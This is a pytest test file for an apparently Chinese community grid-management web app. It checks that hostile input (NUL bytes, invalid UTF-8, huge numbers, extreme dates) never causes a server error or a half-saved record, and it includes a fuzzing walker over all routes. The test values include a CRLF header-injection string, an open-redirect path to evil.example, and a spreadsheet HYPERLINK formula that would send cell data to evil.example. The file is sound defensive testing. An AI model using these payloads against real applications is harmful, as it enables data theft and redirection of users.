"""Hostile and careless input: normalised in one place (app/core/inputs.py), never a 500,
nothing half-saved."""
import re
from urllib.parse import urlencode

import pytest
from sqlalchemy import select
from sqlalchemy import text as sa_text
from werkzeug.routing import IntegerConverter

from app.extensions import db

HUGE = str(2**63)


def test_ids_and_pages_out_of_range_are_not_found_or_the_first_page(client, users, tree):
    client.login("admin")
    for url in (f"/grids/{HUGE}", f"/grids/{2**31}", "/grids/-1", f"/cases/{HUGE}", f"/households/{HUGE}"):
        assert client.get(url).status_code == 404, url
    for url in (f"/households/?page={HUGE}", "/households/?page=-1", f"/admin/audit?page={HUGE}",
                f"/users?page={HUGE}", f"/cases/?grid_id={HUGE}", f"/patrols/hazards?grid_id={HUGE}"):
        assert client.get(url).status_code in (200, 404), url


def test_text_loses_nul_and_control_characters_and_keeps_line_breaks(app, client, users, tree):
    from app.core.inputs import clean_text

    assert clean_text("a\x00b\x07c\r\nd\re\tf\x7f\x85") == "ab c\nd\ne\tf".replace(" ", "")
    client.login("admin")
    client.get(f"/grids/{tree['cluster_a']}/staff/new")
    resp = client.post(f"/grids/{tree['cluster_a']}/staff/new",
                       {"role": "team_member", "user_id": "0", "name": "张\x00三\x1b", "phone": "13900001111"})
    assert resp.status_code == 302, resp.get_data(as_text=True)
    from app.grids.models import GridStaff

    with app.app_context():
        assert db.session.scalar(select(GridStaff.name).where(GridStaff.grid_id == tree["cluster_a"])) == "张三"


def test_invalid_utf8_and_overlong_values_are_refused_in_chinese(client, users, tree):
    client.login("admin")
    client.get("/users/new")
    resp = client.raw.post("/users/new", data=b"username=\xff\xfe&csrf_token=" + client.token.encode(),
                           content_type="application/x-www-form-urlencoded")
    assert resp.status_code == 400 and "UTF-8" in resp.get_data(as_text=True)
    resp = client.post("/users/new", {"username": "x" * 60_000})
    assert resp.status_code == 400 and "太长" in resp.get_data(as_text=True)
    resp = client.get("/users?q=" + "张" * 20_000)
    assert resp.status_code == 400 and "太长" in resp.get_data(as_text=True)
    resp = client.get("/admin/audit?actor=" + "张" * 900)
    assert resp.status_code == 200


def test_login_with_nul_and_a_line_break_in_next_is_safe(client, users):
    client.get("/login")
    resp = client.post("/login", {"username": "ad\x00min", "password": "x\x00"})
    assert resp.status_code == 401
    resp = client.post("/login?next=/cases/%0d%0aSet-Cookie:%20x=1", {"username": "admin",
                                                                       "password": "Grid-test-pass-2026"})
    assert resp.status_code == 302 and resp.headers["Location"] == "/", resp.get_data(as_text=True)
    client.logout()
    client.get("/login")
    resp = client.post("/login?next=/%5Cevil.example", {"username": "admin", "password": "Grid-test-pass-2026"})
    assert resp.status_code == 302 and resp.headers["Location"] == "/", resp.get_data(as_text=True)


def test_a_nul_in_a_path_segment_matches_no_route(app, client, users):
    from werkzeug.exceptions import NotFound

    adapter = app.url_map.bind("localhost")
    for path in ("/q/abc\x00def", "/v/abc\x00"):
        with pytest.raises(NotFound):
            adapter.match(path)
    assert adapter.match("/q/abc")[0] == "public_cases.intake"
    assert client.get("/q/abc%00def").status_code in (302, 404)  # anonymous: to the login page
    client.login("admin")
    assert client.get("/q/abc%00def").status_code == 404


def test_date_windows_are_stated_in_the_message(app, client, tree, users):
    from datetime import date

    from app.core.validators import DEADLINE, PAST, PLANNED, InvalidValue
    from app.meetings.models import Meeting

    today = date(2026, 11, 29)
    assert PLANNED.check(date(2028, 11, 29), today=today)
    with pytest.raises(InvalidValue, match="会议日期应在 2000-01-01 至 2028-11-30 之间，这里是 9999-12-31"):
        PLANNED.check(date(9999, 12, 31), "会议日期", today)
    with pytest.raises(InvalidValue, match="至今天之间"):
        PAST.check(date(2026, 11, 30), "工作日志的日期", today)
    with pytest.raises(InvalidValue, match="至 2027-11-30 之间"):
        DEADLINE.check(date(2027, 12, 1), "办理期限", today)

    from tests.factories import meeting_kind_id, plan_meeting

    client.login("village_admin")
    for held_on in ("0001-01-01", "9999-12-31"):
        html = plan_meeting(client, tree["village_a"], meeting_kind_id(app, "village_monthly"), held_on=held_on).get_data(as_text=True)
        assert "会议日期应在 2000-01-01 至" in html and held_on in html
    with app.app_context():
        assert db.session.scalars(select(Meeting)).first() is None


def test_dates_in_urls_and_query_strings_answer_in_chinese(client, tree, users):
    client.login("worker")
    for day in ("0001-01-01", "9999-12-31", "1999-12-31"):
        resp = client.get(f"/worklogs/day/{day}")
        assert resp.status_code == 404 and "工作日志的日期应在 2000-01-01 至今天之间" in resp.get_data(as_text=True)
        resp = client.post(f"/worklogs/day/{day}", {"content": "补记"})
        assert resp.status_code == 404
    resp = client.get(f"/worklogs/users/{users['worker']}/month/0001-01")
    assert resp.status_code == 404 and "2000-01-01" in resp.get_data(as_text=True)
    client.logout()
    client.login("leader")
    for week in ("0001-01-01", "9999-12-31"):
        resp = client.get(f"/worklogs/team?grid_id={tree['village_a']}&week={week}")
        assert resp.status_code == 200 and "所查的周应在 2000-01-01 至今天之间" in resp.get_data(as_text=True)
    resp = client.post(f"/worklogs/users/{users['worker']}/check", {"week": "0001-01-01", "comment": "好"})
    assert resp.status_code == 404
    client.logout()
    client.login("admin")
    for value in ("0001-01-01", "9999-12-31"):
        resp = client.get(f"/admin/audit?start={value}&end={value}")
        assert resp.status_code == 200 and "开始日期应在 2000-01-01" in resp.get_data(as_text=True)


# The walker: every route × every field × hostile values, as a grid worker and as the admin

HOSTILE = {
    "text": "甲\x00乙\x1b[31m\x07\x7f\x85ａｄｍｉｎ\u200b\u202e１２３",  # NUL, controls, look-alikes
    "long": "长" * 100_000,
    "huge": str(2**63),
    "negative": "-1",
    "year1": "0001-01-01",
    "year9999": "9999-12-31",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
}
# Each route gets every cheap value (refused while the request is read) and, turn by turn, one of each
# pair of the others: the walk stays a few minutes on a slow machine and every value meets every kind of
# field across the routes.
ALWAYS = ("text", "long")
TURNS = (("huge", "negative"), ("year1", "year9999"), ("formula", "text"))
INVALID_UTF8 = b"\xff\xfe\xc3("
# Query-string names any list or page reads.
QUERY_NAMES = ("page", "grid_id", "q", "week", "start", "end", "month", "period", "status", "state", "kind", "size",
               "household_id", "unit_id", "category_id", "event_id", "actor", "action", "entity", "entity_id",
               "receipt", "next", "target", "leaf", "role", "party", "mine", "overdue", "year", "quarter")
# Fields a form needs to say which of its forms is sent (kept as the page has them).
KEEP_FIELDS = {"csrf_token", "action", "which", "form_key"}
# Posts whose effect does not depend on what is typed and that would end the walk (or the account) early.
SKIP_POSTS = {"accounts.logout", "accounts.user_toggle", "accounts.user_reset_password", "main.setup"}
# Rows that a refused request rightly leaves: the audit trail, failed logins, rate-limit counters, sessions.
UNCOUNTED = {"audit_log", "login_failure", "login_session", "rate_counter", "form_stash", "schedule_run"}
FIELD_RE = re.compile(r'<(input|select|textarea)\b([^>]*)>', re.S)
ATTR_RE = re.compile(r'([a-zA-Z_-]+)="([^"]*)"')


def _row_counts():
    tables = [t for t in sorted(db.metadata.tables) if t not in UNCOUNTED]
    sql = "SELECT " + ", ".join(f'(SELECT count(*) FROM "{t}")' for t in tables)
    return dict(zip(tables, db.session.execute(sa_text(sql)).one()))


def _fields(html):
    """(name, value) of every field of the page's forms, as a browser would send them untouched."""
    out = {}
    for tag, attrs in FIELD_RE.findall(html):
        a = dict(ATTR_RE.findall(attrs))
        name = a.get("name")
        if not name or a.get("type") in ("file", "submit", "button"):
            continue
        out.setdefault(name, a.get("value", ""))
    return out


def _is_pdf(rule):
    return rule.rule.endswith(".pdf") or "pdf" in rule.endpoint or "print" in rule.endpoint


class Walk:
    """Requests of one logged-in client; every 5xx or half-saved refusal is collected, not raised."""

    def __init__(self, app, client, role):
        self.app, self.client, self.role, self.problems, self.requests = app, client, role, [], 0

    def send(self, method, url, *, data=None, body=None):
        with self.app.app_context():
            before = _row_counts()
        self.requests += 1
        try:
            if body is not None:
                resp = self.client.raw.open(url, method=method, data=body,
                                            content_type="application/x-www-form-urlencoded")
            else:
                resp = self.client.raw.open(url, method=method, data=data)
        except Exception as exc:  # noqa: BLE001 - TESTING propagates what would be a 500
            self.problems.append(f"{self.role}: {method} {url[:120]} raised {type(exc).__name__}: {str(exc)[:200]}")
            with self.app.app_context():
                db.session.rollback()
            return None
        if resp.status_code >= 500:
            self.problems.append(f"{self.role}: {method} {url[:120]} answered {resp.status_code}")
        refused = resp.status_code >= 400 or (method == "POST" and resp.status_code == 200)
        if refused:
            with self.app.app_context():
                after = _row_counts()
            changed = {t: (before[t], after[t]) for t in before if before[t] != after[t]}
            if changed:
                self.problems.append(f"{self.role}: {method} {url[:120]} was refused ({resp.status_code}) "
                                     f"but changed {changed}")
        return resp


def _walk(app, client, role, ids):
    from tests.test_route_matrix import _routes

    walk = Walk(app, client, role)
    routes = [(rule, method, url) for rule, method, url in _routes(app, ids) if rule.endpoint != "static"]
    # Deleting and cancelling last: the records they remove are what the other routes take.
    routes.sort(key=lambda r: (r[1] == "POST", any(w in r[0].endpoint for w in ("delete", "remove", "cancel", "archive"))))
    for turn, (rule, method, url) in enumerate(routes):
        values = ALWAYS + tuple(pair[turn % 2] for pair in TURNS)
        if method == "GET":
            for name in values[2:4] if _is_pdf(rule) else values:
                value = HOSTILE[name][:2000] if name == "long" else HOSTILE[name]
                walk.send("GET", url + "?" + urlencode({k: value for k in QUERY_NAMES}))
            if not _is_pdf(rule):
                walk.send("GET", url + "?" + "&".join(f"{k}=%FF%FE" for k in QUERY_NAMES))
            for arg in rule.arguments:  # text in the path: a day, a month, a code, a token
                if not isinstance(rule._converters.get(arg), IntegerConverter):
                    for value in ("0001-01-01", "9999-12", "%00", "x" * 3000):
                        walk.send("GET", url.replace(_path_value(rule, arg, ids), value, 1))
            continue
        if rule.endpoint in SKIP_POSTS:
            continue
        page = client.get(url) if "GET" in rule.methods else None
        if page is not None and page.status_code == 200 and page.mimetype == "text/html":
            fields = _fields(page.get_data(as_text=True))
        else:
            client.get("/")
            fields = {}
        for name in dict.fromkeys(values):
            data = {k: (v if k in KEEP_FIELDS or k.endswith("version") else HOSTILE[name]) for k, v in fields.items()}
            data["csrf_token"] = client.token
            walk.send("POST", url, data=data)
        raw = "&".join(f"{k}={INVALID_UTF8.decode('latin-1')}" for k in fields if k not in KEEP_FIELDS)
        walk.send("POST", url, body=(f"csrf_token={client.token}&" + raw).encode("latin-1"))
    return walk


def _path_value(rule, arg, ids):
    """The sample value the URL carries for ``arg`` (as the route matrix chose it)."""
    from tests.test_route_matrix import _sample

    return str(_sample(arg, rule, ids))


@pytest.mark.parametrize("role", ["worker", "admin"])
def test_hostile_input_walker(app, make_client, tree, users, role):
    """Every route of the URL map × every form field × hostile values: no 5xx, nothing half-saved."""
    from tests.test_route_matrix import own_ids

    ids = own_ids(app, tree, users, role)
    client = make_client()
    client.login(role)
    walk = _walk(app, client, role, ids)
    assert walk.requests > 400
    assert not walk.problems, "\n".join(walk.problems[:60])


def test_a_period_refused_on_a_grid_page_keeps_the_grid_of_the_path(client, tree, users):
    client.login("admin")
    resp = client.get(f"/assessment/grids/{tree['county']}?grid_id=x&period=9999-12")
    assert resp.status_code == 302 and resp.headers["Location"].startswith(f"/assessment/grids/{tree['county']}")


def test_a_user_name_typed_in_full_width_is_folded(app, client, users, tree):
    from app.accounts.models import User

    client.login("admin")
    page = client.get("/users/new").get_data(as_text=True)
    key = re.search(r'name="form_key" type="hidden" value="([0-9a-f]+)"', page)
    data = {"username": "ｗａｎｇ０１", "full_name": "王一", "role": "worker", "password": "Grid-test-pass-2026-x",
            "phone": "", "grids": str(tree["cluster_a"])}
    if key:
        data["form_key"] = key.group(1)
    client.post("/users/new", data)
    with app.app_context():
        assert db.session.scalar(select(User.username).where(User.full_name == "王一")) == "wang01"


def test_the_public_intake_stores_no_nul(app, make_client, tree):
    """On PostgreSQL a NUL byte would fail the insert (500); it never reaches the database."""
    from app.cases.models import Case
    from tests.factories import grid_public_code, public_report

    with app.app_context():
        code = grid_public_code(tree["cluster_a"])
    resp = public_report(make_client(), code, what="河道\x00垃圾\x1b", where="西桥\x00下")
    assert resp.status_code == 200
    with app.app_context():
        case = db.session.scalars(select(Case)).one()
        assert "\x00" not in case.description + case.location + case.title and "河道垃圾" in case.description
